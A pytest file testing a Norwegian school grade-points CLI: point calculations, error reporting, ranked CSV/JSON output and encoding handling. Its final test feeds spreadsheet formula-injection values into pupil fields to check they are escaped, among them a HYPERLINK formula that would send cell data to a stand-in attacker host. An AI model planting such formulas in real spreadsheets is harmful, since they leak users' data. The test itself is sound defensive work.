"""``vitnemal school points``: exit codes, the JSON shape, rejected rows on stderr, the ranked list."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from vitnemal.cli import app

EXAMPLES = Path(__file__).resolve().parents[3] / "examples" / "school"


@pytest.fixture
def runner() -> CliRunner:
    return CliRunner()


def full_pupil(pupil_id: str, **changes: Any) -> dict[str, Any]:
    pupil: dict[str, Any] = {
        "id": pupil_id,
        "final": {
            "norsk muntlig": "4",
            "norsk hovedmål skriftlig": "4",
            "norsk sidemål skriftlig": "3",
            "engelsk muntlig": "5",
            "engelsk skriftlig": "4",
            "matematikk": "3",
            "naturfag": "4",
            "samfunnsfag": "5",
            "kristendom, religion, livssyn og etikk": "5",
            "mat og helse": "5",
            "musikk": "IV",
            "kunst og håndverk": "4",
            "kroppsøving": "5",
            "fremmedspråk": "4",
        },
        "electives": ["5", "4"],
        "exams": {"matematikk skriftlig": "3", "engelsk muntlig": "4"},
        "order": "G",
        "conduct": "NG",
    }
    pupil.update(changes)
    return pupil


def write_json(tmp_path: Path, pupils: list[dict[str, Any]]) -> Path:
    path = tmp_path / "pupils.json"
    path.write_text(json.dumps(pupils, ensure_ascii=False), encoding="utf-8")
    return path


def test_json_output_has_id_points_and_working(runner: CliRunner, tmp_path: Path) -> None:
    # final: 4 4 3 5 4 3 4 5 5 5 IV(0) 4 5 4 = 55 over 14; valgfag (5 + 4) ÷ 2 = 4.50; exams 3 + 4
    # 55 + 4.50 + 7 = 66.50 over 17 → 665 ÷ 17 = 39.1176… → 39.12
    path = write_json(tmp_path, [full_pupil("p1")])
    result = runner.invoke(app, ["school", "points", str(path), "--json"])
    assert result.exit_code == 0, result.output
    [record] = json.loads(result.stdout)
    assert record["id"] == "p1"
    assert record["points"] == "39.12"
    assert (record["sum"], record["count"], record["elective_average"]) == ("66.50", 17, "4.50")
    assert {"subject": "musikk", "source": "standpunkt", "grade": "IV", "value": "0"} in record["counted"]
    assert {c["subject"] for c in record["not_counted"]} == {"orden", "atferd"}


def test_text_output_shows_the_working(runner: CliRunner, tmp_path: Path) -> None:
    result = runner.invoke(app, ["school", "points", str(write_json(tmp_path, [full_pupil("p1")]))])
    assert result.exit_code == 0
    assert "p1" in result.stdout and "× 10 ÷ 17 = 665.00 ÷ 17 = 39.12" in result.stdout


def test_rejected_pupils_go_to_stderr_with_their_index_and_exit_1(runner: CliRunner, tmp_path: Path) -> None:
    bad = full_pupil("p2", electives=["5", "4", "4", "3"])
    path = write_json(tmp_path, [full_pupil("p1"), bad, full_pupil("p3", order="X")])
    result = runner.invoke(app, ["school", "points", str(path), "--json"])
    assert result.exit_code == 1
    assert [r["id"] for r in json.loads(result.stdout)] == ["p1"]
    assert "item 2 (index 1) (id p2)" in result.stderr
    assert "4 valgfag grades" in result.stderr
    assert "item 3 (index 2) (id p3)" in result.stderr


def test_csv_example_and_ranked_list(runner: CliRunner, tmp_path: Path) -> None:
    ranked = tmp_path / "ranked.csv"
    result = runner.invoke(app, ["school", "points", str(EXAMPLES / "pupils.csv"), "--ranked-out", str(ranked)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(ranked.open(encoding="utf-8")))
    assert [(r["rank"], r["id"], r["points"], r["tied"]) for r in rows] == [
        ("1", "p2", "47.71", "nei"),
        ("2", "p3", "44.71", "ja"),
        ("2", "p4", "44.71", "ja"),
        ("4", "p1", "41.47", "nei"),
    ]
    assert "loddtrekning" in rows[1]["note"]


def test_json_example_and_json_ranked_list(runner: CliRunner, tmp_path: Path) -> None:
    ranked = tmp_path / "ranked.json"
    result = runner.invoke(app, ["school", "points", str(EXAMPLES / "pupils.json"), "--ranked-out", str(ranked)])
    assert result.exit_code == 0, result.output
    ranking = json.loads(ranked.read_text(encoding="utf-8"))
    assert [entry["id"] for entry in ranking] == ["p2", "p3", "p1"]
    assert ranking[0]["points"] == "47.71"


def test_csv_rows_are_reported_by_line_and_good_rows_still_processed(runner: CliRunner) -> None:
    result = runner.invoke(app, ["school", "points", str(EXAMPLES / "pupils-with-errors.csv"), "--json"])
    assert result.exit_code == 1
    assert [r["id"] for r in json.loads(result.stdout)] == ["p1", "p5"]
    for expected in ("line 3 (id e1)", "line 4 (id e2)", "line 5 (id e3)", "line 7 (id p1)", "line 8 (id p9)"):
        assert expected in result.stderr
    assert "2 pupils accepted, 5 rejected" in result.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["school", "points", "/no/such/file.csv"],
        ["school", "points", "{examples}/pupils.csv", "--ranked-out", "ranked.txt"],
        ["school", "points", "{examples}/pupils.csv", "--no-such-option"],
        ["school", "points"],
    ],
)
def test_usage_errors_exit_2(runner: CliRunner, args: list[str]) -> None:
    result = runner.invoke(app, [a.format(examples=EXAMPLES) for a in args])
    assert result.exit_code == 2


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("id,name,matte\np1,Kari,4\n", "column 3 'matte' is not known"),
        ("name,matematikk\nKari,4\n", "no 'id' column"),
        ("[1, 2", "not valid JSON"),
        ('{"pupils": 3}', "expected a JSON list of pupils"),
    ],
)
def test_unreadable_files_exit_2_with_a_clear_message(
    runner: CliRunner, tmp_path: Path, content: str, message: str
) -> None:
    path = tmp_path / ("pupils.json" if content[:1] in "[{" else "pupils.csv")
    path.write_text(content, encoding="utf-8")
    result = runner.invoke(app, ["school", "points", str(path)])
    assert result.exit_code == 2
    assert message in result.stderr


def test_semicolon_separated_windows_1252_csv_is_read(runner: CliRunner, tmp_path: Path) -> None:
    header = ["id", "KRLE", "valgfag 1", "eksamen matematikk skriftlig", "eksamen engelsk muntlig", "Kroppsøving"]
    path = tmp_path / "excel.csv"
    path.write_bytes((";".join(header) + "\r\np1;5;4;3;4;6\r\n").encode("cp1252"))
    result = runner.invoke(app, ["school", "points", str(path), "--json"])
    assert result.exit_code == 0, result.output
    # 5 + 6 + 4 + 3 + 4 = 22 over 5 → 44.00
    assert json.loads(result.stdout)[0]["points"] == "44.00"


def test_formula_cells_from_the_input_are_neutralised_in_the_ranked_csv(runner: CliRunner, tmp_path: Path) -> None:
    pupils = [
        full_pupil("=1+1", name='=HYPERLINK("https://evil.example/?"&A1,"klikk")', school="@SUM(A1:A2)"),
        full_pupil("p2", name="-2+3", school="+47 skole"),
        full_pupil("p3", name="\t=1", school="\r=2"),
    ]
    ranked = tmp_path / "ranked.csv"
    result = runner.invoke(app, ["school", "points", str(write_json(tmp_path, pupils)), "--ranked-out", str(ranked)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(ranked.open(encoding="utf-8", newline="")))
    for row in rows:
        for column in ("id", "name", "school"):
            assert row[column][0] not in "=+-@\t\r", (column, row[column])
    assert rows[0]["name"] == """'=HYPERLINK("https://evil.example/?"&A1,"klikk")"""
    assert {r["id"] for r in rows} == {"'=1+1", "p2", "p3"}
    assert {r["school"] for r in rows} == {"'@SUM(A1:A2)", "'+47 skole", "'=2"}  # the importer strips the CR
